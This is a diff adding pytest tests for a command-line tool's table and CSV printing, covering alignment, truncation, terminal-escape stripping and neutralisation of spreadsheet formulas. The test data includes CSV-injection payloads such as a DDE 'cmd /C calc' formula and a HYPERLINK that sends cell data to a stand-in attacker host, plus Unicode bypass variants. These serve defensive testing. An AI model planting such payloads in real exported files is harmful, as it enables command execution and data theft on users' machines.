@@ -1,0 +1,127 @@
+"""Tables and CSV: aligned, cut for the eye, and nothing in a cell that is not to be shown or that a spreadsheet computes."""
+
+import contextlib
+import csv
+import io
+import json
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from streamgauge.cli.tables import MAX_WIDTH, print_csv, print_records, print_table
+from streamgauge.core.record import encode_record
+from tests.metrics.records import make_record, make_timing, make_usage
+
+
+def test_columns_are_aligned_numbers_to_the_right(capsys: pytest.CaptureFixture[str]) -> None:
+    print_table(["name", "n"], [["a", 1], ["bcdef", 1000], [None, None]])
+    assert capsys.readouterr().out == "name      n\na         1\nbcdef  1000\n\n"
+
+
+def test_a_cell_is_cut_and_cannot_move_the_cursor(capsys: pytest.CaptureFixture[str]) -> None:
+    print_table(["name"], [["x" * 100], ["\x1b[2Jred\nline"]])
+    _, first, second = capsys.readouterr().out.splitlines()
+    assert first == "x" * (MAX_WIDTH - 1) + "\u2026"
+    assert second == "?[2Jred?line"
+
+
+def test_records_show_what_they_know_and_nothing_for_what_they_do_not(capsys: pytest.CaptureFixture[str]) -> None:
+    known = make_record(timing=make_timing(first_token_s=0.25), usage=make_usage(11, 7))
+    unknown = make_record(timing=make_timing(first_token_s=None), usage=make_usage(None, None), response_model=None)
+    records = [json.loads(encode_record(record)) for record in (known, unknown)]
+    print_records(records, "csv")
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [row["ttft_s"] for row in rows] == ["0.25", ""]
+    assert [row["input"] for row in rows] == ["11", ""]
+    assert rows[1]["model"] == (records[1]["request_model"] or "")
+    print_records(records, "table")
+    head, first, second = capsys.readouterr().out.splitlines()
+    place = head.index("ttft_s")
+    assert first[place : place + 6].strip() == "0.250"
+    assert second[place : place + 6].strip() == ""
+
+
+def as_csv(*cells: object) -> str:
+    """What is printed for one row, without its line of names."""
+    printed = io.StringIO()
+    with contextlib.redirect_stdout(printed):
+        print_csv(["name"] * len(cells), [cells])
+    return printed.getvalue().partition("\n")[2]
+
+
+def cell_of(*cells: object) -> str:
+    """The first cell as a reader of commas has it."""
+    return next(csv.reader(io.StringIO(as_csv(*cells), newline="")))[0]
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        "+1+1",
+        "-1+1",
+        "-1",
+        "@SUM(1+1)",
+        "\0=1+1",
+        "\ttext",
+        "\rtext",
+        "\ntext",
+        "  =1+1",
+        "\u00a0=1+1",
+        "\ufeff=1+1",
+        '"=1+1"',
+        "'=1+1",
+        "\uff1d1+1",
+        "\uff0b1+1",
+        "\uff0d1+1",
+        "\u30fc1+1",
+        "\uff201+1",
+    ],
+)
+def test_a_formula_becomes_text(formula: str) -> None:
+    assert cell_of(formula) == f"'{formula}"
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t", "\n", "\r"])
+def test_a_formula_does_not_begin_where_another_reader_splits_a_cell(separator: str) -> None:
+    """Excel takes the separator from the locale, and then splits at one of ours in spite of the quotes."""
+    assert cell_of(f"gpt{separator}=1+1{separator} @x") == f"gpt{separator}'=1+1{separator}' @x"
+
+
+@pytest.mark.parametrize(
+    "text", ["gpt-4", "a = b", "a@b", "a\rb", "a\nb", "", "2026-03-01T00:00:00Z", "caf\u00e9", "a, b; c", "1e5", "'"]
+)
+def test_other_text_stays_as_it_is(text: str) -> None:
+    assert cell_of(text, "x") == text
+
+
+def test_numbers_stay_numbers() -> None:
+    assert as_csv(-1, -0.5, 3, None, True) == "-1,-0.5,3,,True\n"
+
+
+DROPPED = ' \t\r\n\0\u00a0\ufeff"'
+SIGNS = "=+-@\uff1d\uff0b\uff0d\u30fc\uff20"
+
+
+@given(
+    cell=st.text(alphabet=f"{SIGNS}{DROPPED}',;ab", max_size=12),
+    beside=st.text(alphabet=f'{SIGNS};"x', max_size=4),
+    separator=st.sampled_from(",;\t"),
+)
+def test_no_reader_finds_a_cell_that_begins_a_formula(cell: str, beside: str, separator: str) -> None:
+    rows = csv.reader(io.StringIO(as_csv(cell, beside).replace("\0", " "), newline=""), delimiter=separator)
+    for found in (found for row in rows for found in row):
+        assert not found.lstrip(DROPPED).startswith(tuple(SIGNS)), found
+
+
+def test_tables_keep_what_csv_alters(capsys: pytest.CaptureFixture[str]) -> None:
+    print_table(["name"], [["=1+1"]])
+    assert capsys.readouterr().out == "name\n=1+1\n"
+
+
+def test_a_long_cell_takes_no_longer_than_its_length(capsys: pytest.CaptureFixture[str]) -> None:
+    """Time that grew with the square of the length would be hours here."""
+    print_csv(["name"], [["\t" * 500_000], ["x\t" * 50_000]])
+    assert len(capsys.readouterr().out) > 500_000
